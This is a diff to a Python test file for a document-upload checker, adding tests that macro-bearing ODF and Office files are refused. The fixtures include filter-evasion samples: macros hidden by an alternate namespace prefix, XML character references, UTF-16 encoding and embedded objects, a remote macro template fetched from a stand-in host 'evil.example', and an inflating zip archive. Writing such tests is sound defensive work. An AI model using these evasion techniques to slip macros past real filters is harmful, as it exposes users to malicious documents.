@@ -46,12 +46,31 @@ def office_open_xml(main_part: str, **extra: bytes) -> bytes:
     )
 
 
+OFFICE_NS = b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
+ODF_NAMESPACES = OFFICE_NS + (
+    b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+    b' xmlns:xlink="http://www.w3.org/1999/xlink"'
+    b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+)
+
+
+def odf_content(body: bytes = b"") -> bytes:
+    return (
+        b'<?xml version="1.0"?><office:document-content '
+        + ODF_NAMESPACES
+        + b">"
+        + body
+        + (b"</office:document-content>")
+    )
+
+
 def open_document(mimetype: str, **extra: bytes) -> bytes:
     return archive(
         {
             "mimetype": mimetype.encode(),
-            "content.xml": b'<?xml version="1.0"?><office:document-content/>',
-            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest/>',
+            "content.xml": odf_content(),
+            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest '
+            b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
         }
         | extra
     )
@@ -442,30 +461,53 @@ def test_a_word_document_with_macros_under_other_names_is_refused(content):
 
 
 @pytest.mark.parametrize(
-    "content_xml",
+    "body",
     [
-        b"<office:document-content><office:scripts><office:event-listeners>"
+        b"<office:scripts><office:event-listeners>"
         b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
         b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
-        b'location=application"/></office:event-listeners></office:scripts>'
-        b"</office:document-content>",
-        b'<office:document-content><text:a xlink:href="macro:///Tools.Misc.Run">x</text:a>'
-        b"</office:document-content>",
+        b'location=application"/></office:event-listeners></office:scripts>',
+        # The same under another prefix bound to the script namespace, and the address
+        # written with a character reference.
+        b'<office:scripts><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:'
+        b'script:1.0" xlink:href="vnd.sun.star.script&#58;Tools.Run"/></office:scripts>',
+        b'<text:p><text:a xlink:href="macro:///Tools.Misc.Run">x</text:a></text:p>',
+        b"<text:p><text:a xlink:href='macro:///Tools.Misc.Run'>x</text:a></text:p>",
     ],
-    ids=["runs on load", "macro link"],
+    ids=["runs on load", "other prefix", "macro link", "single quotes"],
 )
-def test_an_open_document_that_calls_a_macro_is_refused(content_xml):
+def test_an_open_document_that_calls_a_macro_is_refused(body):
     content = open_document(
-        "application/vnd.oasis.opendocument.text", **{"content.xml": content_xml}
+        "application/vnd.oasis.opendocument.text", **{"content.xml": odf_content(body)}
     )
     refused = refusal("makro.odt", content)
     assert refused.code == "active_content"
 
 
-def test_an_open_document_with_the_usual_empty_scripts_element_is_accepted():
+def test_a_macro_in_an_embedded_object_or_in_utf16_is_refused():
+    listener = odf_content(
+        b'<office:scripts><script:event-listener xlink:href="vnd.sun.star.script:x"/>'
+        b"</office:scripts>"
+    )
+    embedded = open_document(
+        "application/vnd.oasis.opendocument.text", **{"Object 1/content.xml": listener}
+    )
+    assert refusal("upotettu.odt", embedded).code == "active_content"
+    utf16 = listener.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
+    wide = open_document(
+        "application/vnd.oasis.opendocument.text", **{"content.xml": utf16.encode("utf-16")}
+    )
+    assert refusal("leveä.odt", wide).code == "active_content"
+
+
+def test_an_open_document_with_the_usual_empty_scripts_element_and_words_is_accepted():
     content = open_document(
         "application/vnd.oasis.opendocument.text",
-        **{"content.xml": b"<office:document-content><office:scripts/><p>macro: x</p>"},
+        **{
+            "content.xml": odf_content(
+                b'<office:scripts/><text:p>"macro: x" and vnd.sun.star.script: in text</text:p>'
+            )
+        },
     )
     check_upload(SimpleUploadedFile("ohje.odt", content), allowed=["odt"], max_bytes=MB)
 
@@ -510,3 +552,79 @@ def test_an_archive_of_too_many_parts_is_refused():
     members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
     members |= {f"word/media/{n}.png": b"x" for n in range(10_001)}
     assert refusal("monta.docx", archive(members)).code == "archive_too_large"
+
+
+def relationships(*items: bytes) -> bytes:
+    return (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+        b'package/2006/relationships">' + b"".join(items) + b"</Relationships>"
+    )
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        # Spelt with character references, which an XML reader resolves.
+        {
+            "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
+            b'ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/></Types>'
+        },
+        # The content types saved as UTF-16.
+        {
+            "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-16"?><Types><Default '
+            'Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'.encode(
+                "utf-16"
+            )
+        },
+        # A template with macros fetched from elsewhere when the document opens.
+        {
+            "word/_rels/settings.xml.rels": relationships(
+                b'<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/'
+                b't.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                b'relationships/attachedTemplate"/>'
+            )
+        },
+    ],
+    ids=["character references", "utf-16", "remote template"],
+)
+def test_macros_hidden_from_a_text_search_are_found(extra):
+    refused = refusal("makro.docx", office_open_xml("word/document.xml", **extra))
+    assert refused.code == "active_content"
+
+
+def test_an_excel_4_macro_sheet_is_refused():
+    types = (
+        b'<Types><Override PartName="/xl/macrosheets/sheet1.xml" '
+        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
+    )
+    content = office_open_xml("xl/workbook.xml", **{"[Content_Types].xml": types})
+    assert refusal("makro.xlsx", content).code == "active_content"
+
+
+def test_a_link_whose_address_mentions_activex_is_not_a_macro():
+    link = relationships(
+        b'<Relationship Id="rId5" TargetMode="External" Target="https://example.fi/activex-ohje"'
+        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+    )
+    content = office_open_xml("word/document.xml", **{"word/_rels/document.xml.rels": link})
+    check_upload(SimpleUploadedFile("ohje.docx", content), allowed=["docx"], max_bytes=MB)
+
+
+def test_thousands_of_relationship_parts_are_refused_quickly():
+    import time
+
+    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
+    members |= {f"word/_rels/{n}.rels": relationships() for n in range(5000)}
+    started = time.monotonic()
+    refusal("monta.docx", archive(members))
+    assert time.monotonic() - started < 10
+
+
+def test_many_parts_of_a_megabyte_that_inflate_are_refused_as_a_whole():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zip_file:
+        zip_file.writestr("[Content_Types].xml", "<Types/>")
+        zip_file.writestr("word/document.xml", "<document/>")
+        for n in range(300):
+            zip_file.writestr(f"word/media/{n}.bin", b"\x00" * (1024**2 - 1))
+    assert refusal("pommi.docx", buffer.getvalue()).code == "archive_too_large"
